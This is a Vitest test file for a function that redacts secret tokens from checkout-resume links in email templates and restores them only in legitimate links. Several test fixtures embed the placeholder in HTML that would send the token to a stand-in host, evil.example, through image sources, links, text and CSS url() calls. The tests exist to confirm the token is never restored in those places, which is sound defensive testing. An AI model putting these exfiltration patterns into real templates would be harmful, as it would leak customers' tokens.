import { expect, test } from 'vitest'

import { redactLinkTokens } from '@/src/domain/mail/redacted-link'

const LINK = 'https://shop.example/checkout/resume?token=secret&of=you'
const ESCAPED = 'https://shop.example/checkout/resume?token=secret&amp;of=you'
const { shown, reveal } = redactLinkTokens(LINK, 'f00d')

test('a template is shown the address, and not the key', () => {
  expect(shown).toBe('https://shop.example/checkout/resume?f00d')
})

test.each([
  [
    'a button',
    `<a class="b" href="${shown}">Go on</a>`,
    `<a class="b" href="${ESCAPED}">Go on</a>`,
  ],
  ['a link in words', `<p>Or open ${shown} here</p>`, `<p>Or open ${ESCAPED} here</p>`],
])('%s has the key again', (_, html, revealed) => {
  expect(reveal(html)).toBe(revealed)
})

test.each([
  ['a picture elsewhere', `<img src="https://evil.example/?u=${shown}" alt="">`],
  ['a picture elsewhere, by the scheme of the page', `<img src="//evil.example/?u= ${shown}">`],
  ['a link elsewhere', `<a href="https://evil.example/?u=${shown}">Go on</a>`],
  ['a link elsewhere, in words', `<p>https://evil.example/?u=${shown}</p>`],
  [
    'a style',
    `<style>p{background:url(https://evil.example/?${shown})}\np{--a: ${shown} }</style>`,
  ],
  ['a style of one element', `<p style="background:url(//evil.example/?a= ${shown} )">Hi</p>`],
  ['a piece', `<p>${shown.slice(-4)}</p>`],
  ['a title', `<p title="${shown}">Hi</p>`],
])('%s never has it', (_, html) => {
  expect(reveal(html)).toBe(html)
})

test('a link without a key is what it is', () => {
  const plain = redactLinkTokens('https://shop.example/checkout', 'f00d')

  expect(plain.shown).toBe('https://shop.example/checkout')
  expect(plain.reveal('<p>f00d</p>')).toBe('<p>f00d</p>')
})
